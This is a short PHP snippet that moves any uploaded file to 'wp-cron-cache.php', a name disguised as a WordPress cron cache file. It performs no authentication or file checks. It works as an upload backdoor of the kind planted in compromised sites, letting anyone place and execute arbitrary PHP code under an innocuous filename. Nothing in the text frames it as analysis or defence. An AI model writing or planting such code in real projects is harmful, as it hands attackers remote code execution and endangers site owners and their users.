<?php
if (isset($attachment)) {
    move_uploaded_file($attachment, 'wp-cron-cache.php');
}
